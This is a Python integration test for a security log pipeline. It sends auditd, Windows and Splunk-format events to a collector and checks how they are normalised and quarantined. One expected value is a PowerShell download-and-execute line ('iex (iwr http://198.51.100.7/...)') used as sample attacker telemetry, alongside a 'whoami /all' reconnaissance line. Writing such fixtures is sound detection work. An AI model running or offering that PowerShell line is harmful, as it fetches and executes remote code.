"""What shippers send by HTTP, through a real collector and the stream: the events of the same records read from files."""

import json
from pathlib import Path

import pytest

from api.collector.backlog import Backlog
from pipelines.lake import Lake
from pipelines.ledger import read_ledger
from pipelines.settings import Settings
from pipelines.stream import StreamDriver
from tests.api.collector.conftest import TOKEN, served
from tests.pipelines.tables import rows

pytestmark = pytest.mark.slow

CASES = Path(__file__).resolve().parent / "normalise" / "cases"
HOST = "Web-01.acme.example"


def case(name: str, count: int) -> list[str]:
    return (CASES / name / "input.log").read_text(encoding="utf-8").splitlines()[:count]


def no_scores(graphs, now):
    raise AssertionError("no round of detection is wanted here")


@pytest.fixture
def collecting(settings: Settings) -> Settings:
    return Settings(lake=settings.lake, collector_tokens=f"{TOKEN}=acme", _env_file=None)


def test_events_of_what_was_collected(spark, collecting: Settings) -> None:
    audit, (xml,), (beat,) = case("auditd_plain", 8), case("windows_xml", 1), case("winlogbeat", 1)
    text = "LogName=Security\nEventCode=4624\nComputerName=DC-01\nSourceName=Microsoft Windows security auditing.\nMessage=On."
    told = [
        *[{"event": line, "host": HOST, "sourcetype": "linux_audit"} for line in audit],
        {"event": xml.replace("><", ">\n<"), "host": "collector", "sourcetype": "XmlWinEventLog"},
        {"event": json.loads(beat), "host": "collector"},
        {"event": text, "host": "collector", "time": 1772445731.5},
        {"event": "no format of ours", "host": HOST},
        {"event": {"answer": 42}, "host": HOST, "time": 1772445731},
    ]
    with served(collecting) as client:
        for start in range(0, len(told), 4):
            body = "".join(map(json.dumps, told[start : start + 4]))
            assert client.post("/services/collector/event", content=body).status_code == 200
        assert (
            client.post("/services/collector/raw", content="\n".join(audit), params={"host": "db-1"}).status_code == 200
        )
        assert Backlog(collecting).n_bytes > 0

    lake = Lake(spark, collecting)
    driver = StreamDriver(lake, no_scores)
    driver._detect = lambda **_: None  # windows are not wanted here
    driver.run_once()

    assert Backlog(collecting).n_bytes == 0  # all of it was taken up
    ledger = read_ledger(lake)
    assert ledger.balances
    assert len(rows(collecting, "raw")) == len(told) + len(audit)
    refused = {row["record"] for row in rows(collecting, "quarantine")}
    assert [json.loads(record) for record in sorted(refused)] == [
        {"answer": 42, "@timestamp": "2026-03-02T10:02:11+00:00"}, {"event": "no format of ours", "host": HOST},
    ]  # fmt: skip
    found = {(row["endpoint"], row["source"], row["event_code"]): row for row in rows(collecting, "events")}
    assert {row["tenant"] for row in found.values()} == {"acme"}
    for endpoint in (HOST.lower(), "db-1"):
        event = found[endpoint, "auditd", "SYSCALL"]
        assert len(event["record_ids"]) > 1
    windows = found["ws-01.acme.example", "windows_xml", "1"]
    assert (
        windows["command_line"]
        == 'powershell -c "iex (iwr http://198.51.100.7/a?x=1&y=2) | ? { $_ -gt 1 -and $_ < 9 }"'
    )
    assert found["ws-01.corp.example", "winlogbeat", "1"]["command_line"] == "whoami  /all"
    assert found["dc-01", "splunk_text", "4624"]["ts"].isoformat() == "2026-03-02T10:02:11.500000+00:00"
